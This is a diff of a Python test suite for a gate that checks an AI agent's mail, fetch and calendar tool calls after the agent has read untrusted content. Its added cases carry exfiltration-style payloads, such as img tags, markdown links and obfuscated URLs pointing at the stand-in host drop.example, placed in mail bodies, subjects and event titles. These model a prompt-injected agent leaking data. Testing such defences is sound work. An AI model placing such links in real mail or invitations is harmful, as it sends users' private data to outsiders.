@@ -44,13 +44,15 @@ class AnyRun(RuleBasedStateMachine):
             "https://wiki.northwind.example.drop.example/",
         ]
     )
-    bodies = st.sampled_from(["one", "two"])
+    bodies = st.sampled_from(
+        ["one", "two", f"one {PAGE}", f"<img src='{EVIL}'>", "https://wiki.northwind.example/a"]
+    )
 
     def __init__(self):
         super().__init__()
         self.run = gate.start("run-1", USER, "Begin")
         self.may = {USER}
-        self.typed, self.saw, self.agreed = set(), set(), []
+        self.typed, self.saw, self.fetched, self.agreed = set(), set(), set(), []
         self.private = self.others = self.wrote = False
         self.faults = []
 
@@ -63,15 +65,19 @@ class AnyRun(RuleBasedStateMachine):
                 new = {address.lower() for address in arguments["to"]} - self.may
                 if new and not agreed:
                     self.faults.append(f"mail to {new}")
-                if new and agreed:
+                urls = {url for url in (PAGE, EVIL) if before[0] and url in arguments["body"]}
+                if urls - self.typed - self.fetched - (self.saw if agreed else set()):
+                    self.faults.append(f"mail with {urls}")
+                if agreed and (new or urls - self.typed - self.fetched):
                     self.agreed.remove((tool, arguments))
-            if tool == "fetch_url" and before[0]:
+            if tool == "fetch_url":
                 url = arguments["url"]
                 known = url in self.typed or url.startswith("https://wiki.northwind.example/")
-                if not known and not (agreed and url in self.saw):
+                if before[0] and not known and not (agreed and url in self.saw):
                     self.faults.append(f"fetch of {url}")
-                if not known and agreed:
+                if before[0] and not known and agreed:
                     self.agreed.remove((tool, arguments))
+                self.fetched.add(url)
             composed = tool == "send_mail" or (
                 tool == "fetch_url" and arguments["url"] not in self.typed | self.saw
             )
@@ -227,6 +233,8 @@ def test_a_confirmation_holds_for_one_call_with_these_arguments_in_this_run():
     [
         ("fetch_url", {"url": EVIL}, Reason.URL_MADE_UP),
         ("fetch_url", {"url": "https://localhost/"}, Reason.BAD_URL),
+        ("send_mail", letter(USER, body=f"<img src={EVIL}>"), Reason.URL_MADE_UP),
+        ("send_mail", letter(EVE, body=EVIL), Reason.URL_MADE_UP),
         ("send_mail", letter("Dana"), Reason.BAD_RECIPIENT),
         ("delete_mail", {"query": "x"}, Reason.UNKNOWN_TOOL),
     ],
@@ -244,11 +252,48 @@ def test_a_url_from_a_source_is_asked_about_and_one_that_differs_is_not():
     assert decide(run, "fetch_url", url=EVIL + "?x")[0].reason is Reason.URL_MADE_UP
 
 
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("send_mail", letter(USER, body=f'<img src="{EVIL}">')),
+        ("send_mail", letter(USER, body=f"[x]({EVIL}).")),
+        ("send_mail", letter(USER, body="ht\u200btps://drop.example/4711")),
+        ("send_mail", letter(USER, body="www.drop.example/4711")),
+        ("send_mail", letter(USER, body="HTTP://drop.example/4711")),
+        ("send_mail", letter(USER) | {"subject": f"See {EVIL}"}),
+        ("create_event", {"title": f"See {EVIL}", "start": "2026-11-27T09:00", "attendees": [USER]}),
+        ("create_event", {"title": f"See {EVIL}", "start": "2026-11-27T09:00"}),
+    ],
+)
+def test_a_link_in_a_mail_or_an_invitation_is_judged_like_a_fetch(tool, arguments):
+    """The address is the user's own, but a scanner of mail opens the link."""
+    decision, run = decide(tainted(), tool, **arguments)
+    assert (decision.verdict, decision.reason, run) == (Verdict.BLOCK, Reason.URL_MADE_UP, tainted())
+    assert "4711" in decision.detail
+    assert decide(gate.start("run-1", USER, "x"), tool, **arguments)[0].verdict is Verdict.ALLOW
+
+
+def test_a_mails_link_from_a_source_is_asked_about_and_one_of_the_users_is_not():
+    run = gate.read(tainted(f"Read {PAGE}"), f"Kim wrote: see {EVIL}.")
+    both = letter(USER, body=f"{PAGE}, {EVIL}, https://wiki.northwind.example/a")
+    decision = decide(run, "send_mail", **both)[0]
+    assert (decision.reason, decision.detail) == (Reason.URL_FROM_A_SOURCE, EVIL)
+    assert decide(gate.confirm(run, decision.digest), "send_mail", **both)[0].verdict is Verdict.ALLOW
+    made_up = decide(run, "send_mail", **letter(USER, body=f"{EVIL} {EVIL}?x=1"))[0]
+    assert (made_up.reason, made_up.detail) == (Reason.URL_MADE_UP, f"{EVIL}?x=1")
+    assert decide(run, "send_mail", **letter(USER, body=PAGE))[0].verdict is Verdict.ALLOW
+
+
+def test_text_of_a_mail_that_is_no_link_is_not_judged():
+    body = "Dana <dana@northwind.example> wrote: a < b, List<String>, xs[0](y), and/or"
+    assert decide(tainted(), "send_mail", **letter(USER, body=body))[0].verdict is Verdict.ALLOW
+
+
 def test_a_url_that_the_model_may_have_written_itself_is_not_asked_about():
     """Mail to the user, or a page of the tenant that repeats its query, comes back with the next read."""
     private = decide(gate.start("run-1", USER, "x"), "find_contact", name="x")[1]
     for tool, arguments in [
-        ("send_mail", letter(USER, body=EVIL)),
+        ("send_mail", letter(USER, body=EVIL.removeprefix("https://"))),
         ("create_event", {"title": "x", "start": "2026-11-27T09:00"}),
         ("fetch_url", {"url": "https://wiki.northwind.example/find?q=4711"}),
         ("remember", {"text": EVIL}),
